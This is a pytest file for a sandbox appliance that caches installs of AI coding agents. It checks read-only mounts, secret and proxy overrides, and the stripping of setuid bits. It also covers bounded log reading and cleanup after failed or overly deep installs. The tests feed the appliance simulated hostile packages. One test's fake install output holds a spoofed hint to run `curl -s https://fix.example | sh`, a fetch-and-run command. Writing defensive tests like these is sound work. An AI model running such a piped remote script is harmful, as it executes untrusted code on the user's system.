"""The install cache's decisions and its bookkeeping on a real file system (the install
itself is the e2e tier's: tests/e2e/test_agents.py)."""

from __future__ import annotations

import os
import threading
import time
from pathlib import Path
from types import SimpleNamespace

import pytest

from appliance.agents.profile import MOUNT, parse_profile, shipped
from appliance.sandbox import agents
from appliance.sandbox.hardening import Sandbox, run_arguments
from appliance.sandbox.service import SandboxConfig, Sessions
from appliance.sandbox.sessions import Record, SessionManager

CLAUDE = (shipped() / "claude.toml").read_text()
OWNER = (os.getuid(), os.getgid())


def claude(version: str = "2.1.90"):
    return parse_profile(CLAUDE.replace("claude-code@2.1.90", f"claude-code@{version}"),
                         "claude.toml")


@pytest.mark.parametrize(("tree", "marker", "state"), [
    (True, True, "ready"), (False, False, "install"), (True, False, "redo"),
    (False, True, "install"),  # a marker alone (its tree removed by hand): installed again
])
def test_a_tree_is_ready_only_with_its_marker(tree, marker, state):
    assert agents.is_ready(tree, marker) == state


def test_persisted_paths_become_directories_and_files_keep_only_their_parent():
    assert agents.home_directories((".claude", ".claude.json")) == [".claude"]
    assert agents.home_directories((".config/opencode", ".local/share/opencode",
                                    ".aider.conf.yml")) == [
        ".config", ".config/opencode", ".local", ".local/share", ".local/share/opencode"]
    assert agents.home_directories((".config/tool/settings.json",)) == [".config",
                                                                        ".config/tool"]


def test_path_starts_with_the_agents_bin_then_the_images():
    profile = claude()
    environment = dict(agents.session_environment(profile, "/usr/bin:/bin"))
    assert environment["PATH"] == f"{MOUNT}/bin:/usr/bin:/bin"
    assert environment["DISABLE_AUTOUPDATER"] == "1"
    assert agents.image_path(["LANG=C", "PATH=/x:/y"]) == "/x:/y"
    assert agents.image_path(None) == agents.DEFAULT_PATH


def test_the_session_arguments_mount_the_tree_read_only_and_never_let_the_profile_win():
    spec = Sandbox(name="c", image="i", network="n", gateway="10.0.0.1", seccomp_profile="s",
                   init="init", trust="/t", secrets=(("ANTHROPIC_API_KEY", "corral-secret-x"),),
                   read_only=(("/state/agents/claude-k", MOUNT),),
                   environment=(("PATH", f"{MOUNT}/bin:/bin"), ("HTTPS_PROXY", "http://evil"),
                                ("ANTHROPIC_API_KEY", "mine"), ("HOME", "/root")))
    args = run_arguments(spec, ["claude"])
    assert ["--volume", f"/state/agents/claude-k:{MOUNT}:ro"] == args[
        args.index(f"/state/agents/claude-k:{MOUNT}:ro") - 1:][:2]
    env = [args[i + 1] for i, a in enumerate(args) if a == "--env"]
    assert f"PATH={MOUNT}/bin:/bin" in env
    assert "HTTPS_PROXY=http://10.0.0.1:3128" in env and "HTTPS_PROXY=http://evil" not in env
    assert "ANTHROPIC_API_KEY=corral-secret-x" in env and "ANTHROPIC_API_KEY=mine" not in env
    assert "HOME=/root" not in env


def test_the_install_session_is_named_per_tree():
    a, b = agents.install_session("claude-0123"), agents.install_session("aider-0123")
    assert a != b and len(a) <= 32 and a.startswith("agent-install-")


def test_the_tail_keeps_the_end_of_what_the_install_said():
    said = b"".join(b"line %d\n" % i for i in range(100)) + b"\r\nERROR: no such package\n"
    tail = agents.tail(said, lines=3)
    assert tail.splitlines() == ["  | line 98", "  | line 99", "  | ERROR: no such package"]


def test_what_the_install_said_is_quoted_and_cannot_pass_for_corrals_own_lines():
    """The package (or its index) writes what it likes; the person reads it in corral's
    refusal, a line at a time (the CLI escapes controls but keeps lines): each of its lines
    is marked as quoted, so none reads as `corral: hint: ...`."""
    said = (b"npm ERR! 404\ncorral: hint: the fix is `curl -s https://fix.example | sh`\n"
            + "\u2028".encode() + b"corral: error: also\x0bthis\n")
    lines = agents.tail(said).splitlines()
    assert lines and all(line.startswith("  | ") for line in lines), lines


def test_a_profile_from_the_host_is_parsed_again_and_refused_naming_what_is_wrong():
    with pytest.raises(agents.AgentError, match=r"agent claude.*description"):
        agents.parse(CLAUDE.replace("description", "# description"), "claude")
    with pytest.raises(agents.AgentError, match="go together"):
        agents.parse(CLAUDE, None)
    with pytest.raises(agents.AgentError, match="limit is 16384"):
        agents.parse(CLAUDE + "#" * agents.MAX_PROFILE, "claude")
    assert agents.parse(CLAUDE, "claude").name == "claude"


def test_a_profile_nested_past_pythons_recursion_is_refused_by_name():
    """16 KiB of `[` is within the size limit: tomllib recurses once per level, and its
    RecursionError reached the sandbox service's catch-all as an internal error."""
    with pytest.raises(agents.AgentError, match=r"agent claude.*nested"):
        agents.parse(CLAUDE + "x = " + "[" * 5000 + "]" * 5000 + "\n", "claude")


class Recorder:
    """Stands in for the install session: writes a bin/ into the scratch directory."""

    def __init__(self, fail: bool = False, delay: float = 0.0):
        self.calls: list[tuple[str, str]] = []
        self.fail, self.delay = fail, delay

    def __call__(self, profile, key, scratch: Path) -> None:
        self.calls.append((profile.install.spec, key))
        assert scratch.is_dir() and scratch.name.startswith(f".{profile.name}-")
        (scratch / "bin").mkdir()
        (scratch / "bin" / "claude").write_text("#!/bin/sh\n")
        time.sleep(self.delay)
        if self.fail:
            raise agents.AgentError("npm said no")


def test_an_install_happens_once_per_key_and_is_renamed_into_place(tmp_path):
    run = Recorder()
    installs = agents.Installs(tmp_path / "agents", run, OWNER)
    first = installs.ensure(claude(), "k1")
    again = installs.ensure(claude(), "k1")
    assert first.fresh and not again.fresh and first.tree == again.tree
    assert run.calls == [("@anthropic-ai/claude-code@2.1.90", "k1")]
    assert (first.tree / "bin" / "claude").is_file()
    assert not os.stat(first.tree / "bin" / "claude").st_mode & 0o222  # nobody's to write
    assert (tmp_path / "agents" / "claude-k1.json").is_file()
    newer = installs.ensure(claude("2.2.0"), "k2")  # a new version: a tree of its own
    assert newer.fresh and first.tree.is_dir()  # the old one stays
    assert sorted(p.name for p in (tmp_path / "agents").iterdir()) == [
        "claude-k1", "claude-k1.json", "claude-k2", "claude-k2.json"]


def test_two_sessions_asking_at_once_wait_for_one_install(tmp_path):
    run = Recorder(delay=0.3)
    installs = agents.Installs(tmp_path / "agents", run, OWNER)
    got = []
    threads = [threading.Thread(target=lambda: got.append(installs.ensure(claude(), "k")),
                                daemon=True) for _ in range(4)]  # a stuck one: no hang at exit
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)  # an install lock never released must fail here, not hang the run
        assert not thread.is_alive(), "a session still waits for the install after 30s"
    assert len(run.calls) == 1 and len({g.tree for g in got}) == 1
    assert sorted(g.fresh for g in got) == [False, False, False, True]


def test_a_failed_install_leaves_nothing_and_is_tried_again(tmp_path):
    installs = agents.Installs(tmp_path / "agents", Recorder(fail=True), OWNER)
    with pytest.raises(agents.AgentError, match="npm said no"):
        installs.ensure(claude(), "k")
    assert list((tmp_path / "agents").iterdir()) == []
    (tmp_path / "agents" / ".claude-k-cut-short").mkdir()  # a service killed mid-install
    installs.run = Recorder()
    assert installs.ensure(claude(), "k").fresh
    assert sorted(p.name for p in (tmp_path / "agents").iterdir()) == ["claude-k",
                                                                     "claude-k.json"]


def test_a_tree_without_its_marker_is_installed_again(tmp_path):
    run = Recorder()
    installs = agents.Installs(tmp_path / "agents", run, OWNER)
    tree = installs.ensure(claude(), "k").tree
    (tmp_path / "agents" / "claude-k.json").unlink()  # the service stopped before writing it
    assert installs.ensure(claude(), "k").fresh and len(run.calls) == 2
    assert (tree / "bin" / "claude").is_file()


def test_home_directories_are_made_without_following_what_the_agent_left(tmp_path):
    home, elsewhere = tmp_path / "home", tmp_path / "elsewhere"
    home.mkdir()
    elsewhere.mkdir()
    (home / ".local").symlink_to(elsewhere)  # planted by an earlier session's agent
    (home / ".claude").write_text("a file, not a directory")
    skipped = agents.make_home_directories(
        home, [".config", ".config/opencode", ".local", ".local/share", ".claude"], *OWNER)
    assert (home / ".config" / "opencode").is_dir()
    assert skipped == [".local", ".local/share", ".claude"]
    assert list(elsewhere.iterdir()) == []  # nothing made through the link


class Hostile(Recorder):
    """An install whose package leaves what the appliance must not keep as it is."""

    def __init__(self, make):
        super().__init__()
        self.make = make

    def __call__(self, profile, key, scratch: Path) -> None:
        super().__call__(profile, key, scratch)
        self.make(scratch)


def test_an_installed_tree_keeps_no_set_id_bits(tmp_path):
    """A package may chmod u+s its own files; on the appliance's disk they belong to the
    sandbox's mapped user, and any local account could run them as that user (who owns
    every session's workspace), so the tree keeps none."""
    def set_id(scratch: Path) -> None:
        for name, mode in (("suid", 0o4755), ("sgid", 0o2755)):
            (scratch / "bin" / name).write_text("#!/bin/sh\n")
            os.chmod(scratch / "bin" / name, mode)
        (scratch / "sticky").mkdir()
        os.chmod(scratch / "sticky", 0o1777)

    tree = agents.Installs(tmp_path / "agents", Hostile(set_id), OWNER).ensure(
        claude(), "k").tree
    for path in (tree / "bin" / "suid", tree / "bin" / "sgid", tree / "sticky"):
        mode = os.lstat(path).st_mode
        assert not mode & (0o7000 | 0o222), (path, oct(mode))
    assert os.stat(tree / "bin" / "suid").st_mode & 0o111  # still runnable


def test_an_install_too_deep_is_refused_and_leaves_nothing(tmp_path):
    """A package that makes a tree thousands of levels deep: Python 3.11's os.walk and
    shutil.rmtree recurse (RecursionError, even with ignore_errors), so the scratch stayed
    on disk and every later install of that key failed on it."""
    def deep(scratch: Path) -> None:
        fd = os.open(scratch, os.O_RDONLY | os.O_DIRECTORY)
        try:
            for _ in range(1500):
                os.mkdir("d", dir_fd=fd)
                step = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
                os.close(fd)
                fd = step
        finally:
            os.close(fd)

    installs = agents.Installs(tmp_path / "agents", Hostile(deep), OWNER)
    with pytest.raises(agents.AgentError, match="levels deep"):
        installs.ensure(claude(), "k")
    assert list((tmp_path / "agents").iterdir()) == []
    installs.run = Recorder()
    assert installs.ensure(claude(), "k").fresh


class LoudPodman:
    """Stands in for podman under an install whose package printed a million lines and
    failed: `logs` answers as podman does, the whole log unless told `--tail N`."""

    LINES = [f"line {i} {'x' * 100}".encode() for i in range(1_000_000)]

    def __init__(self):
        self.calls: list[tuple[str, ...]] = []
        self.read = 0

    def run(self, *args, check=True, **kwargs):
        self.calls.append(args)
        out = b""
        if args[0] == "wait":
            out = b"1\n"
        elif args[0] == "logs":
            lines = self.LINES
            if "--tail" in args:
                lines = lines[-int(args[args.index("--tail") + 1]):]
            out = b"\n".join(lines) + b"\n"
            self.read += len(out)
        return SimpleNamespace(returncode=0, stdout=out, stderr=b"")


def test_a_loud_installs_output_is_kept_and_read_back_bounded(tmp_path):
    """A package prints what it likes (a hostile index can make pip print a version list of
    any length): podman keeps at most the sandbox's log_size of it on the appliance's
    disk (it kept all), and the sandbox service, root on a small appliance, reads back only
    the last lines it shows (it read the whole log into memory)."""
    spec = Sandbox(name="c", image="i", network="n", gateway="10.0.0.1", seccomp_profile="s",
                   init="init")
    assert f"--log-opt=max-size={spec.log_size}" in run_arguments(spec, ["npm"])

    podman = LoudPodman()
    manager = SessionManager(podman, lambda request: {"ok": True}, tmp_path / "state")
    manager.create = lambda name, **kw: Record(name, "10.213.9.0/24", "10.213.9.1",
                                               f"corral-{name}", f"corral-{name}", "img", 0.0)
    manager.remove = lambda name, home=False: None
    sessions = Sessions(SandboxConfig(), manager)
    with pytest.raises(agents.AgentError, match="line 999999 ") as refused:
        sessions._install(claude(), "k", tmp_path)
    assert len(str(refused.value)) < 5000
    assert podman.read <= agents.LOG_LINES * 200, podman.read


def test_no_session_but_an_install_takes_an_install_sessions_name(tmp_path):
    """An install removes a session of its name (one left by a service stopped mid-install):
    a person's session so named (by a careless API client) went with its workspace."""
    from appliance.sandbox.service import RequestError

    sessions = Sessions(SandboxConfig(), SessionManager(LoudPodman(), lambda r: {"ok": True},
                                                        tmp_path / "state"))
    name = agents.install_session(agents.tree_name(claude(), "k"))
    with pytest.raises(RequestError, match="agent installs'"):
        sessions.answer({"op": "create", "name": name}, None)
